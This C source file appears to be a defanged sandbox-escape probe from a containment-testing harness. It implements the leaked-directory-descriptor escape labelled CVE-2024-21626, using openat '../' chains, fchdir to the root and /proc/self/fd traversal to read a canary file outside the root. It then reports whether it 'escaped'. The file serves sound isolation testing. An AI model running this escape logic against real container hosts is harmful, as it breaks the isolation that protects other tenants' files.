/* leaked_dirfd: see attack.toml for the technique. Defanged: bounded loops, reads and harmless markers only. */
#define _GNU_SOURCE
#pragma GCC diagnostic ignored "-Wformat-truncation" /* truncated paths are fine here */
#include <stdio.h>
#include <stdlib.h>
#include <stdarg.h>
#include <string.h>
#include <unistd.h>
#include <fcntl.h>
#include <errno.h>
#include <dirent.h>
#include <sys/stat.h>
#include <sys/types.h>
#include <sys/syscall.h>

/* ---- shared preamble (copied into each attack: one source file per attack) ---- */
static const char *NONCE = "no-nonce";
static long out_budget = 40000; /* file contents printed, at most */

/* stdout goes through a byte cap (56 KB, reports up to 64 KB) so the run never hits the 64K output limit */
static long out_total;
static ssize_t cap_write(void *c, const char *buf, size_t n)
{
    (void)c;
    int is_report = memmem(buf, n, "GAUNTLET-REPORT", 15) != NULL;
    if (out_total + (long)n <= 56000 || (is_report && out_total + (long)n <= 64000)) {
        size_t off = 0;
        while (off < n) { ssize_t w = write(1, buf + off, n - off); if (w <= 0) break; off += w; }
        out_total += n;
    }
    return n;
}
__attribute__((constructor)) static void cap_stdout(void)
{
    cookie_io_functions_t io = {0, cap_write, 0, 0};
    FILE *f = fopencookie(NULL, "w", io);
    if (f) { setvbuf(f, NULL, _IOLBF, 0); stdout = f; }
}

__attribute__((unused)) static void report(int escaped, const char *fmt, ...)
{
    va_list ap;
    fflush(stdout);
    printf("GAUNTLET-REPORT %s %s ", NONCE, escaped ? "escaped" : "denied");
    va_start(ap, fmt);
    vprintf(fmt, ap);
    va_end(ap);
    printf("\n");
    fflush(stdout);
}

/* Print up to max bytes of buf, non-printables as '.', within the global output budget. */
__attribute__((unused)) static void show(const char *buf, long n, long max)
{
    if (n > max) n = max;
    if (n > out_budget) n = out_budget;
    if (n < 0) n = 0;
    out_budget -= n;
    for (long i = 0; i < n; i++) {
        unsigned char c = (unsigned char)buf[i];
        putchar((c >= 32 && c < 127) || c == '\n' ? c : '.');
    }
    putchar('\n');
    fflush(stdout);
}

/* Open and read a path; print what came back. Returns bytes read, or -errno. */
__attribute__((unused)) static long dump_path_at(int dirfd, const char *path, long max)
{
    int fd = openat(dirfd, path, O_RDONLY | O_NONBLOCK | O_NOCTTY | O_CLOEXEC);
    if (fd < 0) {
        int e = errno;
        printf("open %s: %s\n", path, strerror(e));
        return -e;
    }
    char buf[4096];
    long n = read(fd, buf, sizeof buf);
    int e = errno;
    close(fd);
    if (n < 0) {
        printf("read %s: %s\n", path, strerror(e));
        return -e;
    }
    printf("READ %s (%ld bytes): ", path, n);
    show(buf, n, max);
    return n;
}
__attribute__((unused)) static long dump_path(const char *path, long max) { return dump_path_at(AT_FDCWD, path, max); }
/* ---- end of preamble ---- */

/* F13: CVE-2024-21626. A directory descriptor leaked from the runtime lets the plugin walk out of its
 * root: fchdir(fd) then `../../..`, openat(fd, "../../..."), /proc/self/fd/N/../.. For every fd 0..1024
 * (and the supervisor's {canary_fd} number in particular) it tries all three, reads what any fd holds,
 * and tries the canary path relative to each directory fd. */
#include <sys/resource.h>
static int hits;
int main(int argc, char **argv)
{
    const char *canary = argc > 1 ? argv[1] : "/nonexistent";
    int canary_fd = argc > 2 ? atoi(argv[2]) : 3;
    if (argc > 3) NONCE = argv[3];
    const char *rel = canary[0] == '/' ? canary + 1 : canary;
    char p[4096], t[512];
    int open_fds = 0;
    for (int fd = 0; fd <= 1024; fd++) {
        struct stat st;
        if (fstat(fd, &st) != 0) continue;
        open_fds++;
        snprintf(p, sizeof p, "/proc/self/fd/%d", fd);
        long n = readlink(p, t, sizeof t - 1); if (n >= 0) t[n] = 0; else t[0] = 0;
        printf("fd %d open: mode %o -> %s%s\n", fd, st.st_mode & S_IFMT, t, fd == canary_fd ? " (the canary fd number)" : "");
        if (fd > 2 && S_ISREG(st.st_mode)) {
            char b[512]; long r = pread(fd, b, sizeof b, 0);
            if (r > 0) { printf("READ fd %d: ", fd); show(b, r, 400); hits++; }
        }
        if (S_ISDIR(st.st_mode)) {
            for (int k = 1; k <= 16; k *= 2) {
                char q[4096] = ""; for (int i = 0; i < k; i++) strcat(q, "../"); strcat(q, rel);
                if (dump_path_at(fd, q, 300) > 0) hits++;
                snprintf(p, sizeof p, "/proc/self/fd/%d/%s", fd, q); if (dump_path(p, 300) > 0) hits++;
            }
            int cwd = open(".", O_PATH | O_DIRECTORY);
            if (fchdir(fd) == 0) {
                for (int i = 0; i < 40; i++) if (chdir("..") != 0) break;
                char c[512]; printf("fchdir(%d)+40x ..: cwd=%s\n", fd, getcwd(c, sizeof c) ? c : strerror(errno));
                if (dump_path(rel, 300) > 0) hits++;
                if (cwd >= 0) fchdir(cwd);
            }
            if (cwd >= 0) close(cwd);
        }
    }
    /* the canary fd number explicitly, through every door */
    snprintf(p, sizeof p, "/proc/self/fd/%d", canary_fd); if (dump_path(p, 400) > 0) hits++;
    snprintf(p, sizeof p, "/dev/fd/%d", canary_fd); if (dump_path(p, 400) > 0) hits++;
    snprintf(p, sizeof p, "/proc/self/fd/%d/../../../..%s", canary_fd, canary); if (dump_path(p, 400) > 0) hits++;
    snprintf(p, sizeof p, "/proc/1/fd/%d", canary_fd); if (dump_path(p, 400) > 0) hits++;
    /* /proc/self/cwd and root are directory links too */
    snprintf(p, sizeof p, "/proc/self/cwd/../../../../../../%s", rel); if (dump_path(p, 300) > 0) hits++;
    printf("open fds: %d\n", open_fds);
    report(hits > 0, "leaked-fd-read(%d)", hits);
    usleep(400000);
    return 0;
}
